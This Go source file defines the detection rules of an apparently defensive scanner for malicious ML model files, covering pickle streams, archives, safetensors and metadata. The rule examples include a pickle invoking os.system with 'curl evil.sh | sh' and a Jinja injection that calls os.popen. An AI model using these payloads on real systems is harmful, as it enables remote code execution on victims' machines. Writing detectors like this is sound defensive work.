package finding

import (
	"sort"

	"github.com/modelward/modelward/framework"
)

// Rule describes one stable rule ID. IDs never change meaning once
// published; a retired rule keeps its number.
type Rule struct {
	ID        string          `json:"id"`
	Name      string          `json:"name"`
	Severity  Severity        `json:"defaultSeverity"`
	Title     string          `json:"title"`
	Rationale string          `json:"rationale"`
	Example   string          `json:"example"`
	Refs      []framework.Ref `json:"references"`
}

var (
	refSupplyChainModel = framework.MustATLAS("AML.T0010.003", "Model")
	refUnsafeArtifacts  = framework.MustATLAS("AML.T0011.000", "Unsafe AI Artifacts")
	refML06             = framework.OWASPMLRef("ML06", "AI Supply Chain Attacks", "ML06_2023-AI_Supply_Chain_Attacks")
	refLLM03            = framework.OWASPLLMRef("LLM03", "Supply Chain")
	supplyChain         = []framework.Ref{refSupplyChainModel, refUnsafeArtifacts, refML06, refLLM03}
)

// Rule IDs. MW1xx: pickle streams; MW2xx: containers and archives;
// MW3xx: formats and inspection coverage.
const (
	PickleDangerous     = "MW101"
	PickleUnknownImport = "MW102"
	PickleMalformed     = "MW103"
	PickleFrame         = "MW104"
	PickleMemo          = "MW105"
	PickleNested        = "MW106"
	PickleExecutable    = "MW107"
	PickleDenied        = "MW108"
	PickleTrailing      = "MW109"
	ExternalLoad        = "MW110"
	NotInspected        = "MW201"
	LimitReached        = "MW202"
	ArchiveAnomaly      = "MW203"
	ArchiveNameMismatch = "MW204"
	FormatUnknown       = "MW301"
	FormatMismatch      = "MW302"
	ObjectArray         = "MW303"
	SafetensorsInvalid  = "MW304"
	SafetensorsSpan     = "MW305"
	MetadataInjection   = "MW306"
	Polyglot            = "MW307"
)

var rules = []Rule{
	{PickleDangerous, "pickle-dangerous-callable", Critical,
		"Pickle imports a callable that can run code, start processes, touch files or the network, or load further code",
		"Unpickling calls whatever the stream imports. The callable is in the curated dangerous set (code execution, processes, files, network, dynamic import and name resolution, nested deserialisation, native libraries), so loading this file can compromise the machine.",
		"A pickle whose __reduce__ returns (os.system, (\"curl evil.sh | sh\",)): `GLOBAL 'posix system'`, then `REDUCE` with that string.",
		supplyChain},
	{PickleUnknownImport, "pickle-unknown-import", Medium,
		"Pickle imports a callable outside the allowlist: not verified safe",
		"Only callables that real model files need, checked against files written by the real libraries, are allowlisted. Anything else is imported (running its module's import-time code) and possibly called at load; it has not been verified safe.",
		"A scikit-learn pipeline that includes `mycompany.features.Cleaner`, a class of the user's own code.",
		supplyChain},
	{PickleMalformed, "pickle-malformed-stream", High,
		"Pickle stream is malformed or ends early: not fully inspected",
		"Loaders stop at the first error, but everything before it has already run; a stream that breaks after its imports is a known way to hide a payload from scanners that give up on errors. The imports seen before the break are reported.",
		"`cbuiltins\\nexec\\n` followed by bytes that are not opcodes: exec is imported, then the stream breaks.",
		supplyChain},
	{PickleFrame, "pickle-frame-mismatch", High,
		"Pickle FRAME length does not match the opcodes it frames",
		"The pickler always writes frames whose lengths match whole opcodes. A frame that lies is crafted, typically to make scanners and loaders disagree on where opcodes start.",
		"A protocol 4 stream whose first FRAME claims 3 bytes while the opcodes it holds are 20 bytes long.",
		supplyChain},
	{PickleMemo, "pickle-memo-misuse", Medium,
		"Pickle memo is used in a way no pickler writes",
		"Overwriting a memo slot or reading one that was never written lets a crafted stream swap objects under a scanner that does not model the memo.",
		"`BINGET 3` before anything was stored in slot 3, or two `BINPUT 1` with different objects.",
		supplyChain},
	{PickleNested, "pickle-nested-payload", High,
		"Bytes handed to a loader contain a further pickle or model",
		"A pickle that calls a loader (pickle.loads, torch.load, numpy.load, joblib.load, ...) on embedded bytes runs the inner payload at load time; the inner stream is scanned and reported with its own findings.",
		"`pickle.loads(b\"\\x80\\x04...\")`, or `torch.storage._load_from_bytes` handed a torch.save archive.",
		supplyChain},
	{PickleExecutable, "embedded-executable", High,
		"Byte string holds an executable (ELF, PE, Mach-O or a script with a shebang)",
		"Model weights are numbers; an executable image inside a model's byte strings is a dropper waiting for a loader gadget.",
		"A byte string starting with `\\x7fELF` passed to a function that writes it to disk.",
		supplyChain},
	{PickleDenied, "policy-denied-import", Critical,
		"Pickle imports a callable that the policy denies",
		"The effective policy lists this callable in its deny list.",
		"A policy with `deny: [numpy.random]` and a pickle that imports numpy.random.mtrand.RandomState.",
		supplyChain},
	{PickleTrailing, "pickle-trailing-data", Low,
		"Bytes follow the last pickle stream and are not a pickle",
		"pickle.load stops at STOP and never reads what follows, but other loaders or a second load call might; the bytes are reported so nothing is silently ignored.",
		"A valid pickle followed by 200 bytes of text.",
		supplyChain},
	{ExternalLoad, "external-file-load", High,
		"Loading the pickle makes the loader read another file and unpickle what it holds",
		"Old joblib dumps name a side file per array that joblib loads with numpy.load(allow_pickle=True). A name that is absolute or climbs out of the model's folder reaches any file on the machine, such as one an attacker dropped earlier; a side file next to the dump is scanned with it and this finding is informational.",
		"A pickle whose joblib NDArrayWrapper has filename \"/tmp/payload.npy\".",
		supplyChain},
	{NotInspected, "not-inspected", High,
		"Content could not be inspected: encrypted, or compressed with an unsupported method",
		"A file that could not be read cannot be called clean. Decrypt or unpack it and scan the contents.",
		"A zip made with `7z a -tzip -pSECRET` holding a pickle.",
		supplyChain},
	{LimitReached, "limit-reached", High,
		"A scanner limit was reached: the rest was not inspected",
		"Limits on sizes, depth, counts, decompression ratio and time keep hostile inputs from exhausting the scanner. Content past a limit was not inspected, so the file is not called clean. Raise the limit in the policy only for files you trust.",
		"A gzip stream that inflates past max_decompressed_bytes, or a pickle with more memo entries than max_memo.",
		supplyChain},
	{ArchiveAnomaly, "archive-anomaly", Low,
		"Archive structure deviates from what its writer produces (bad CRC, unusual flag bits, data outside the central directory)",
		"Loaders such as PyTorch read zips tolerantly; these anomalies are tolerated the same way so nothing is hidden, and reported because real writers do not produce them.",
		"A PyTorch zip whose data.pkl has a wrong CRC-32, or the encryption flag bit set on plain data.",
		supplyChain},
	{ArchiveNameMismatch, "archive-name-mismatch", Medium,
		"A zip member's local header names a different file than the central directory",
		"Different readers pick different names; both names are reported and the data scanned, since a crafted archive uses this to show scanners one file and loaders another.",
		"A zip whose local header says `archive/data.pkl` while the central directory says `archive/data.bin`.",
		supplyChain},
	{FormatUnknown, "format-unrecognised", Info,
		"Content is not a recognised model format and was not analysed",
		"modelward recognises formats by content. A file it does not recognise is listed, never called clean.",
		"A PNG image, a text file or an empty file.",
		nil},
	{FormatMismatch, "format-extension-mismatch", Low,
		"File extension does not match the format found in its content",
		"Formats are recognised by content; a mismatch is reported because it is a common way to slip files past extension-based filters.",
		"A PNG image named `model.pt`.",
		supplyChain},
	{SafetensorsInvalid, "safetensors-invalid-header", High,
		"safetensors header breaks the format: too long, not JSON, duplicate names, unknown dtypes",
		"The reference parser refuses such a header; a lenient one guesses, and two readers that guess differently load different tensors. A header that cannot be read leaves the file uninspected.",
		"A header in which the tensor name \"a\" appears twice with different offsets.",
		supplyChain},
	{SafetensorsSpan, "safetensors-lying-offsets", High,
		"safetensors header lies about where tensor bytes are: spans outside the file, overlapping, with gaps, or not matching dtype and shape",
		"Loaders slice the data buffer by these offsets. Spans that overlap alias one tensor's bytes into another, spans past the end or at odds with dtype times shape make readers read outside the tensor, and gaps hide bytes that no tensor accounts for.",
		"Two tensors with data_offsets [0, 16] and [8, 24].",
		supplyChain},
	{MetadataInjection, "metadata-injection", High,
		"Model metadata carries a template or code",
		"Metadata values are plain strings (a format name, a licence). A Jinja expression, Python or a script in them is waiting for a tool that renders or evaluates metadata, such as a model card or a hub page.",
		"A __metadata__ value of \"{{ cycler.__init__.__globals__.os.popen('id').read() }}\".",
		supplyChain},
	{Polyglot, "polyglot-file", High,
		"File is valid as two formats at once",
		"Loaders recognise formats differently: zip readers find an archive by its end record, others read the first bytes. A file that is a pickle at its start and a zip archive at its end shows torch.load, pickle.load and zipfile different models; scanners that stop at the first format see only one of them. Both are scanned and the file is reported.",
		"A pickle with a zip archive appended, whose end record makes Python's zipfile read the archive.",
		supplyChain},
	{ObjectArray, "numpy-object-array", Info,
		"NumPy array of Python objects: its pickle payload was scanned",
		"Object arrays are stored as pickles and loading them with allow_pickle=True runs that pickle; the payload was analysed like any pickle.",
		"`np.save('a.npy', np.array([1, 'x', None], dtype=object))`.",
		supplyChain},
}

var ruleIndex = func() map[string]Rule {
	m := make(map[string]Rule, len(rules))
	for _, r := range rules {
		m[r.ID] = r
	}
	return m
}()

// Lookup returns the rule with the given ID.
func Lookup(id string) (Rule, bool) {
	r, ok := ruleIndex[id]
	return r, ok
}

// Rules returns every rule, ordered by ID.
func Rules() []Rule {
	out := append([]Rule(nil), rules...)
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	return out
}

// New makes a finding of rule id with the rule's default severity.
func New(id string, loc Location, msg string, ev Evidence) Finding {
	r, ok := ruleIndex[id]
	if !ok {
		panic("finding: unknown rule " + id) // a programming error, caught by tests
	}
	return Finding{Rule: id, Severity: r.Severity, Location: loc, Message: msg, Evidence: ev}
}
